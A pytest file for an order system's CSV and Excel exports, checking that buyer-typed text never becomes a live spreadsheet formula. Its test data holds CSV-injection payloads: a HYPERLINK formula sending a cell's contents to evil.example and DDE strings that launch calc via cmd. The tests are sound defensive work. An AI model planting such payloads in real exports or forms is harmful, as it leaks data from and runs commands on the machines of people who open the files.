"""Exports are safe to open: what a buyer typed never becomes a live formula (CSV injection)."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from orderhub.exports import csv_cell, is_formula_like
from orderhub.models import OrderStatus as S
from reporting import exports

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1",
]
# Text that only holds a number cannot carry a formula: it is left exactly as it is.
NUMBERS_AS_TEXT = ["-12.50", "+86", "-1,234.5", "-1e5", "12", ""]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_like_text_gets_an_apostrophe_in_csv(value):
    assert is_formula_like(value)
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", [*NUMBERS_AS_TEXT, "李四", "a=b", " =1", "'quoted", "#N/A"])
def test_other_text_is_left_alone_in_csv(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", [Decimal("-12.50"), -3, -0.5, None])
def test_numbers_and_empty_cells_are_never_touched(value):
    assert csv_cell(value) is value


HEADER = ["Buyer", "Total", "Note"]
ROWS = [[attack, Decimal("-12.50"), "-12.50"] for attack in ATTACKS] + [
    ["李四", Decimal("118.00"), "#N/A"], ["=", -3, None]]


def test_csv_writer_neutralises_every_text_cell_and_keeps_numbers():
    text = "".join(exports.csv_chunks(HEADER, iter(ROWS), rows_per_chunk=2))

    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows[0] == HEADER
    assert [row[0] for row in rows[1:len(ATTACKS) + 1]] == ["'" + a for a in ATTACKS]
    assert {(row[1], row[2]) for row in rows[1:len(ATTACKS) + 1]} == {("-12.50", "-12.50")}
    assert rows[-2] == ["李四", "118.00", "#N/A"]
    assert rows[-1] == ["'=", "-3", ""]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        name = next(n for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))
        return archive.read(name).decode()


def test_xlsx_writes_text_as_text_cells_and_numbers_as_numbers():
    target = io.BytesIO()
    assert exports.write_xlsx(target, HEADER, iter(ROWS)) == len(ROWS)

    data = target.getvalue()
    assert "<f>" not in _sheet_xml(data)  # not a single formula in the sheet
    sheet = load_workbook(io.BytesIO(data)).active
    body = list(sheet.iter_rows(min_row=2))
    for attack, (buyer, total, note) in zip(ATTACKS, body, strict=False):
        # Exactly what the buyer typed, as text that stays text when edited in Excel.
        assert (buyer.value, buyer.data_type, buyer.quotePrefix) == (attack, "s", True)
        assert (total.value, total.data_type) == (-12.5, "n")
        assert (note.value, note.data_type) == ("-12.50", "s")
    plain, error_text = body[len(ATTACKS)][0], body[len(ATTACKS)][2]
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("李四", "s", False)
    assert (error_text.value, error_text.data_type) == ("#N/A", "s")


@pytest.fixture
def ops_client(client, make_user):
    client.force_login(make_user("ops"))
    return client


def test_order_exports_carry_a_hostile_buyer_name_as_text(ops_client, make_order):
    name = '=HYPERLINK("http://evil.example","Click me")'
    make_order(S.PAID, buyer_name=name)

    response = ops_client.get("/reports/export/orders.csv")
    text = b"".join(response.streaming_content).decode().removeprefix("\ufeff")
    header, row = list(csv.reader(io.StringIO(text)))
    assert dict(zip(header, row, strict=True))["Buyer"] == "'" + name

    response = ops_client.get("/reports/export/orders.xlsx")
    data = b"".join(response.streaming_content)
    assert "<f>" not in _sheet_xml(data)
    sheet = load_workbook(io.BytesIO(data)).active
    buyer = sheet.cell(row=2, column=exports.ORDER_FIELDS.index(("buyer_name", "Buyer")) + 1)
    assert (buyer.value, buyer.data_type, buyer.quotePrefix) == (name, "s", True)
    total = sheet.cell(row=2, column=exports.ORDER_FIELDS.index(("total", "Total")) + 1)
    assert total.data_type == "n"
